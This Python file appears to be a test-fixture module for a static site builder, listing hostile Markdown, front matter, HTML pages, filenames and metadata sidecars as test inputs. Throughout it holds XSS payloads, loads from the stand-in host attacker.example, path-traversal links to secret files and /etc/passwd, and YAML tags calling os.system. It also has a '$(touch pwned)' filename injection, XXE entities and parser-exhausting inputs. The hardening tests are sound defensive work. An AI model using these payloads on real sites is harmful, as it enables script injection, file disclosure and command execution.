"""Hostile articles of our own, each a row of a table: what it is called, and what stands in it.

`KATA` stands for a word of each file's own, which must be found in the site when the file is published. Code that runs
would set `window.__pwned`; nothing may be asked of `attacker.example`.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.__pwned=1"
EVIL = "https://attacker.example"

MARKDOWN = {
    "script-upper": f"<SCRIPT>{RUN}</SCRIPT> KATA",
    "script-src": f"<script src={EVIL}/a.js></script>\n\nKATA",
    "script-unclosed": f"KATA <script>{RUN}",
    "script-nested": f"<scr<script>ipt>{RUN}</scr</script>ipt> KATA",
    "script-slash": f"<script/x>{RUN}</script/> KATA",
    "script-in-code": f"`<script>{RUN}</script>` KATA",
    "script-in-fence": f'```"><script>{RUN}</script>\nKATA\n```',
    "handler-new": f"<details ontoggle={RUN} open><summary>KATA</summary></details>",
    "handler-slash": f"<img/src=x/onerror={RUN}> KATA",
    "handler-tab": f"<img src=x\tonerror\t=\t{RUN}> KATA",
    "handler-in-link": f'[KATA](https://x.example "a\\" onmouseover={RUN} b=\\"")',
    "handler-in-alt": f'![KATA" onerror={RUN} x="](x.png)',
    "handler-focus": f"<a href=# autofocus onfocus={RUN} tabindex=1 id=x>KATA</a>",
    "handler-animation": f"<b style='animation-name:x' onanimationstart={RUN}>KATA</b>",
    "link-entities": "<a href='&#106;&#97;vascript&colon;window.__pwned=1'>KATA</a>",
    "link-newline": "<a href='java\nscript:window.__pwned=1'>KATA</a>",
    "link-control": "<a href='\x01javascript:window.__pwned=1'>KATA</a>",
    "link-reference": "[KATA][r]\n\n[r]: javascript:window.__pwned=1",
    "link-autolink": "<javascript:window.__pwned=1> KATA",
    "link-data": "[KATA](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "link-data-svg": f"<img src='data:image/svg+xml,<svg onload={RUN}>'> KATA",
    "link-vbscript": "[KATA](VbScript:x) [b](view-source:x) [c](blob:x) [d](file:///etc/passwd)",
    "link-userinfo": f"[KATA](https://bank.example@{EVIL[8:]}/)",
    "link-broken": "[KATA](http://[::1) ![a](//[) [b](http://x:99999/) [c](https://%zz) [d](///) <http://[>",
    "link-mark": "[KATA](site-builder-article:0) ![a](site-builder-file:7) [b](site-builder-article:999999999)",
    "link-mark-html": "<a href='site-builder-article:-1'>KATA</a> <img src='site-builder-file:x'>",
    "link-up": "[KATA](../../../../site.toml) ![a](../../secret.txt) [b](%2e%2e/%2e%2e/secret.txt) ![c](/../secret.txt)",
    "link-up-source": "![KATA](@/../../secret.txt) [b]({static}/../secret.txt) [c](@/../secret.md) [d]({filename}../x.md)",
    "link-null": "[KATA](a\x00b.md) ![c](d\x00.png) [e](%00.png)",
    "link-long": f"[KATA](https://x.example/{'a' * 50_000})",
    "ping": f"<a href=https://x.example ping={EVIL}/p>KATA</a>",
    "srcset": f"<img srcset='{EVIL}/a.png 1x' alt=KATA><picture><source srcset={EVIL}/b.png></picture> KATA",
    "cite": "<q cite='javascript:window.__pwned=1'>KATA</q>",
    "attributes-by-list": f"KATA {{: onclick={RUN} id=content style=position:fixed }}",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe> KATA",
    "frame-unclosed": f"KATA\n\n<iframe src='{EVIL}/x'>\n\nlagi",
    "object": f"<object data={EVIL}/a.swf><embed src={EVIL}/b.swf></object> KATA",
    "applet": f"<applet code={EVIL}/a.class></applet><portal src={EVIL}></portal> KATA",
    "form": f"<form action={EVIL}><input name=sandi><button formaction={EVIL}>KATA</button></form>",
    "form-clobber": "<form name=documentElement><input id=getElementById name=attributes></form> <a id=body name=body>KATA</a>",
    "ids": "<b id=content>KATA</b><b id=related>a</b><b id=__pwned>b</b><b id=text-x>c</b><b id=''>d</b>",
    "ids-twice": "## Sama\n\n## Sama\n\n<b id=sama>KATA</b>\n\n## Content\n\n## Related",
    "base": f"<base href={EVIL}/> [KATA](a.md)",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'> KATA",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\"> KATA",
    "style": f"<style>@import '{EVIL}/a.css'; body {{ display: none }}</style> KATA",
    "style-link": f"<link rel=stylesheet href={EVIL}/a.css> KATA",
    "style-attribute": f"<div style=\"position:fixed;inset:0;background:url({EVIL}/a.png)\" class='masthead skip'>KATA</div>",
    "takeover": "<dialog open style='inset:0'>KATA</dialog><div popover id=x>a</div><marquee>b</marquee>",
    "shadow": "<div><template shadowrootmode=open><style>:host{display:none}</style></template>KATA</div>",
    "slot": "<slot name=x>KATA</slot><custom-element is=x>b</custom-element>",
    "svg-script": f"<svg><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>KATA</text></a></svg> KATA",
    "svg-animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s><set attributeName=href to=javascript:{RUN}></svg> KATA",
    "svg-use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></use></svg> KATA",
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg> KATA",
    "math": f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>KATA</maction></math> KATA",
    "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">KATA</noscript> KATA',
    "mutation-style": f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\"> KATA",
    "mutation-math": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\"> KATA",
    "mutation-form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}> KATA",
    "mutation-comment": f"<!--><img src=x onerror={RUN}>--> KATA <!--!> <img src=x onerror={RUN}> -->",
    "mutation-select": f"<select><noembed></select><script x='a@b'></noembed></select><img src=x onerror={RUN}> KATA",
    "mutation-processing": f"<?xml version=1?><img src=x onerror={RUN}> <?php echo 1 ?> KATA <%= x %> <![CDATA[<script>{RUN}</script>]]>",
    "unclosed-title": "KATA <title> lagi.\n\n## Bagian\n\nHabis.",
    "unclosed-textarea": "KATA <textarea>\n\nlagi",
    "unclosed-xmp": "<xmp>\n\nKATA",
    "unclosed-plaintext": "<plaintext>\n\nKATA",
    "unclosed-comment": "awal <!--\n\nKATA",
    "unclosed-quote": "<div title='\n\nKATA",
    "unclosed-all": "<table><tr><td><ul><li><a href=x><b><i><blockquote><details><h2>KATA",
    "closes-all": "</div></div></article></main></body></html>KATA<footer>x</footer></p></p>",
    "nested": "<div>" * 400 + "KATA" + "</div>" * 400,
    "quotes-deep": "> " * 60 + "KATA",
    "templates": "{{ 7+7 }} {% include 'site.toml' %} {{ config }} {# a #} {{ ''.__class__ }} ${7*7} <%= 7*7 %> KATA",
    "includes": '--8<-- "../../secret.txt"\n\n!include ../../secret.txt\n\n[[include ../../secret.txt]] KATA',
    "shortcodes": "{{< readfile ../../secret.txt >}} {{% x %}} {% raw %} {% endraw %} [youtube] KATA",
    "controls": "KATA \x1b[31mred\x1b[0m \x07 \x08 \x00 \x7f \x9b31m \ufffe \uffff",
    "bidi": "KATA \u202e txt.exe \u2066 \u200f \u2028 \u2029 \ufeff",
    "marks-of-the-engine": "KATA \x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \x02amp\x03",
    "footnotes": f"KATA[^a]\n\n[^a]: <script>{RUN}</script> [x](javascript:{RUN})\n[^\"><img src=x onerror={RUN}>]: b",
    "definitions": f"*[KATA]: \" onmouseover={RUN} x=\"\n\nKATA\n: <img src=x onerror={RUN}>",
    "table": f"| KATA | <script>{RUN}</script> |\n|:-:|---|\n| a \" onclick={RUN} | `|` |",
    "inner-markdown": f"<div markdown=\"1\" onclick={RUN}>\n\nKATA *a* [b](javascript:{RUN})\n\n</div>",
    "date-word": "KATA 2020-01-01\n\n- 99999999999999999999. a\n" + "9" * 5000 + ". b",
}  # fmt: skip
"""Texts below a good front matter."""

HEADS = {
    "title-script": f'title: "</title><script>{RUN}</script> KATA"',
    "title-comment": f'title: "<!--<script>{RUN}--> KATA"',
    "title-json": 'title: "</script><!--<script> \\u2028 \\u2029 ]]> KATA"',
    "title-attribute": f"title: 'KATA \" onload=\"{RUN}\" x=\"'",
    "title-entities": 'title: "KATA &amp; &lt;b&gt; & <C> &nbsp;"',
    "title-template": 'title: "{{ 7*7 }}{% raw %} KATA"',
    "title-long": f'title: "KATA {"kata " * 2000}"',
    "title-controls": 'title: "KATA \\e[31m \\a \\0 baris\\nlain \\u202e kanan"',
    "title-number": "title: 0x1F KATA",
    "title-bool": 'title: "no KATA"',
    "tags-markup": f"title: KATA\ntags: ['<script>{RUN}</script>', '../..', 'a/b', '.', 'C', 'C++', 'C#', '\"x\"', '{{{{ 7*7 }}}}', CON, index]",
    "tags-many": f"title: KATA\ntags: [{', '.join(f't{number}' for number in range(30))}]",
    "tags-map": "title: KATA\ntags: {a: b}",
    "author-markup": f"title: KATA\nauthor: '<img src=x onerror={RUN}> {EVIL}'",
    "section-markup": f"title: KATA\nsection: '</title><svg onload={RUN}>'",
    "source-script": f"title: KATA\nsource_url: javascript:{RUN}",
    "source-broken": "title: KATA\nsource_url: 'http://[::1'",
    "source-quotes": f"title: KATA\nsource_url: 'https://x.example/\"onclick=\"{RUN}'",
    "lang-markup": f"title: KATA\nlang: '\"><script>{RUN}</script>'",
    "summary-markup": f"title: KATA\nsummary: '\"><script>{RUN}</script> {{{{ 7*7 }}}}'",
    "keys-of-ours": "title: KATA\nsite: x\npage: y\nself: z\nloop: 1\n__class__: a\nconstructor: b\n__proto__: {polluted: 1}\nlayout: ../../x\ntemplate: /etc/passwd",
    "keys-with-markup": f"title: KATA\n'<script>{RUN}</script>': x\n'\"onclick={RUN}': y",
    "slug-up": "title: KATA\nslug: ../../../pwned",
    "slug-absolute": "title: KATA\nslug: /srv/pwned",
    "slug-backslash": "title: KATA\nslug: '..\\..\\pwned'",
    "slug-encoded": "title: KATA\nslug: '%2e%2e%2fpwned'",
    "slug-wide": "title: KATA\nslug: '．．／pwned'",
    "slug-controls": 'title: KATA\nslug: "a\\nb\\0c"',
    "slug-device": "title: KATA\nslug: nul",
    "slug-index": "title: KATA\nslug: index",
    "slug-list": "title: KATA\nslug: [a, b]",
    "aliases-up": "title: KATA\naliases: ['../../x', '/index.html', 'javascript:x', '//attacker.example/', '/a/../../b', '/CON/x']",
    "aliases-taken": "title: KATA\naliases: ['/index.html', '/feed.xml', '/assets/style.css', '/.site-builder.json', '/archive/index.html']",
    "alias-markup": f"title: KATA\naliases: ['/a\"><script>{RUN}</script>/']",
    "date-far": "title: KATA\ndate: 9999-12-31T23:59:59-12:00",
    "date-early": "title: KATA\ndate: 0001-01-01T00:00:00+14:00",
    "date-never": "title: KATA\ndate: 2024-02-30",
    "date-digits": "title: KATA\ndate: ٢٠٢٤-٠١-٠١",
    "date-huge": f"title: KATA\ndate: {'9' * 20_000}",
    "number-huge": f"title: KATA\nweight: {'9' * 20_000}\nhex: 0x{'f' * 9000}\nfloat: 1e999999999",
    "yaml-tag": "title: !!python/object/apply:os.system ['touch pwned']",
    "yaml-tag-new": "title: !!python/object/new:subprocess.Popen [[touch, pwned]]",
    "yaml-aliases": "a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: [*b, *b, *b]\ntitle: KATA",
    "yaml-merge": "base: &b {title: x}\n<<: *b",
    "yaml-deep": "title: KATA\na: " + "[" * 5000,
    "yaml-deep-map": "title: KATA\na: " + "{a: " * 300 + "x" + "}" * 300,
    "yaml-many": "title: KATA\na: [" + "1, " * 20_000 + "1]",
    "yaml-two-documents": "title: KATA\n--- \ntitle: lain",
    "yaml-tabs": "title:\tKATA\n\tdate: x",
    "yaml-binary": "title: !!binary R0lGODdh KATA",
    "yaml-null-key": "title: KATA\n? [a, b]\n: c\n~: d",
    "yaml-doubled": "title: KATA\ntitle: KATA lagi\nTITLE: KATA tiga",
    "yaml-directive": "%YAML 9.9\ntitle: KATA",
    "picture-up": "title: KATA\nimage: ../../secret.txt",
    "keep-lines": "title: KATA\nkeep: 99999999999999999999, -1, 1-999999999999",
}  # fmt: skip
"""Front matters, above the word."""

PAGES = {
    "script": f"<title>KATA</title><p>KATA isi yang cukup panjang.</p><script>{RUN}</script>",
    "handlers": f"<body onload={RUN}><h1 onclick={RUN}>KATA</h1><p onpointerenter={RUN}>KATA isi yang cukup panjang.</p>",
    "frames": f"<title>KATA</title><frameset onload={RUN}><frame src={EVIL}></frameset><noframes><p>KATA isi</p></noframes>",
    "base": f"<title>KATA</title><base href='{EVIL}/'><p>KATA isi <a href=x>b</a><img src=c.png></p>",
    "base-script": f"<title>KATA</title><base href='javascript:{RUN}//'><p>KATA isi yang panjang <a href=x>b</a></p>",
    "canonical": f"<title>KATA</title><link rel=canonical href='javascript:{RUN}'><p>KATA isi <a href=x>b</a></p>",
    "json": f'<title>KATA</title><script type="application/ld+json">{{"headline": "</p><script>{RUN}", "author": {{"name": "<b onclick={RUN}>"}}, "datePublished": "9999-99-99"}}</script><p>KATA isi yang cukup panjang.</p>',
    "json-deep": f'<title>KATA</title><script type="application/ld+json">{"[" * 100_000}</script><p>KATA isi yang panjang.</p>',
    "json-number": f'<title>KATA</title><script type="application/ld+json">{{"@type": "NewsArticle", "wordCount": {"9" * 9000}}}</script><p>KATA isi</p>',
    "meta": f"<title>KATA</title><meta property=og:title content='\"><script>{RUN}</script>KATA'><meta name=author content='{{{{ 7*7 }}}}'><p>KATA isi yang cukup panjang.</p>",
    "charset-lies": "<meta charset=utf-7><title>KATA</title><p>KATA +ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-</p>",
    "charset-unknown": "<meta charset='../../x'><title>KATA</title><p>KATA isi yang cukup panjang.</p>",
    "entities": "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'><!ENTITY c SYSTEM 'file:///etc/passwd'>]><title>KATA</title><p>KATA &b; &c; &#0; &#xD800; &#x110000;</p>",
    "unclosed": "<title>KATA</title><div><p>KATA isi yang cukup panjang.<table><tr><td><b><a href=x>",
    "textarea": "<title>KATA</title><p>KATA isi</p><textarea><p>lagi",
    "plaintext": "<title>KATA</title><p>KATA isi yang cukup panjang.</p><plaintext></body><script>x",
    "deep": "<title>KATA</title>" + "<div>" * 1500 + "<p>KATA isi yang cukup panjang.</p>",
    "too-deep": "<title>KATA</title>" + "<b>" * 5000 + "KATA",
    "many-tags": "<title>KATA</title><p>KATA</p>" + "<i>a</i>" * 60_000,
    "many-openers": "<title>KATA</title><p>KATA</p>" + "<a " * 20_000,
    "conditional": f"<title>KATA</title><!--[if IE]><script>{RUN}</script><![endif]--><p>KATA isi yang cukup panjang.</p>",
    "tracker": f"<title>KATA</title><p>KATA isi yang cukup panjang.<img src={EVIL}/pixel.gif width=1 height=1></p>",
    "front-matter": f"---\ntitle: '</title><script>{RUN}</script>KATA'\ndate: 2014-05-06\n---\n<p>KATA isi yang cukup panjang.</p>",
}  # fmt: skip
"""Whole pages of HTML."""

TEXTS = {
    "markup": f"KATA <script>{RUN}</script>\n\n<img src=x onerror={RUN}> &lt;b&gt; &amp;",
    "templates": "KATA {{ 7*7 }} {% include 'site.toml' %}",
    "controls": "KATA \x1b]0;judul\x07 \x1b[2J\n\n\x00\x01 isi",
    "publisher": f"<b onclick={RUN}>KATA</b> | <Dunia> | Berita\n\n<svg onload={RUN}>.com - 14/11/2022, 07:35 WIB\n\nOleh: <script>{RUN}</script>\n\nBaca juga: <iframe src={EVIL}>\n\nKATA",
    "one-line": "KATA " + "kata " * 8_000,
    "many-lines": "KATA\n\n" + "a\n\n" * 2_000,
    "blanks": "KATA" + " " * 20_000 + "x\n\n" + "\n" * 20_000,
    "marks": "KATA " + "\u0301" * 5_000,
    "front-matter": f"---\ntitle: '<script>{RUN}</script>'\nslug: ../../x\n---\nKATA",
    "links": f"KATA javascript:{RUN} https://attacker.example/?q=<script> mailto:a@b",
}  # fmt: skip
"""Raw texts."""

SLOW = {
    "brackets": "[" * 9000,
    "pictures": "![" * 8000,
    "links": "[a](" * 8000,
    "tags": "<a " * 20_000,
    "declarations": "<![" * 6000,
    "abbreviations": "".join(f"*[A{number}]: x\n" for number in range(6000)) + "\nA1",
    "fence": "``` " + " " * 30_000,
    "footnotes": "".join(f"[^{number}]: x\n\n" for number in range(9000)),
    "lists": "- " * 20_000,
    "quotations": "> " * 20_000,
    "ticks": "`" * 20 + " `" * 20_000,
    "stars": "*a **b " * 8000,
    "underscores": "_a __b " * 8000,
    "comments": "<!--" * 20_000,
    "rows": "|" * 60_000 + "\n" + "|-" * 60_000,
    "definitions": "a\n: " * 9000,
    "entities": "&" * 60_000,
    "references": "".join(f"[{number}]: <x\n" for number in range(9000)),
}
"""Texts at which parsers of Markdown take long, or give up."""

NAMES = (
    "-rf.md",
    "$(touch pwned).md",
    "*.md",
    "a b  c.md",
    "'\"<img src=x onerror=window.__pwned=1>.md",
    "{{ 7*7 }}.md",
    "%2e%2e%2fx.md",
    "..md",
    "con.md",
    "index.html.md",
    "ŠČ漢字😀.md",
    "baris\nbaru.md",
    "layar\x1b[2Jbersih.md",
    "\u202egpj.md",
    "x" * 200 + ".md",
    "ＦＵＬＬ.MD",
    "sama.md",
    "SAMA.md",
    "sama.txt",
)
"""Names of files, each with a good article in it."""

SIDECARS = {
    "script": f".. title: </title><script>{RUN}</script> KATA\n.. slug: ../../x\n",
    "title": f".. title: KATA </title><script>{RUN}</script>\n.. date: 2014-05-06\n.. tags: <b>, ../..\n",
    "yaml": "---\ntitle: !!python/object/apply:os.system [x]\n---\n",
    "binary": "\x00\x01\x02" * 50,
    "huge": ".. title: KATA\n" + ".. a: b\n" * 30_000,
}
"""Files of metadata beside a good text."""


def list_files() -> Iterator[tuple[str, bytes, str]]:
    """Yield the path below the content folder of each file, its bytes, and the word that it has of its own."""
    number = 0

    def fill(text: str) -> tuple[bytes, str]:
        nonlocal number
        number += 1
        word = f"kata{number:03d}x"
        return text.replace("KATA", word).encode("utf-8", "surrogatepass"), word

    for name, text in MARKDOWN.items():
        yield f"markdown/{name}.md", *fill(f"---\ntitle: Judul {name}\ndate: 2014-05-06\n---\n\n{text}\n")
    for name, text in HEADS.items():
        date = "" if "date:" in text else "date: 2014-05-07\n"
        yield f"heads/{name}.md", *fill(f"---\n{date}{text}\n---\n\nKATA\n")
    for name, text in PAGES.items():
        yield f"pages-of-html/{name}.html", *fill(text)
    for name, text in TEXTS.items():
        yield f"texts/2014-05-08-{name}.txt", *fill(text)
    for name in NAMES:
        yield f"names/{name}", *fill("---\ntitle: Nama KATA\ndate: 2014-05-09\n---\n\nKATA\n")
    for name, text in SIDECARS.items():
        yield f"beside/{name}.txt", *fill("Judul KATA\n\nKATA isi.\n")
        yield f"beside/{name}.meta", *fill(text)


def list_slow() -> Iterator[tuple[str, bytes]]:
    """Yield the path and the bytes of each text that is slow to read."""
    for name, text in SLOW.items():
        head = f"---\ntitle: Lambat {name}\ndate: 2014-05-10\n---\n\n"
        yield f"slow/{name}.md", f"{head}{text}\n".encode()
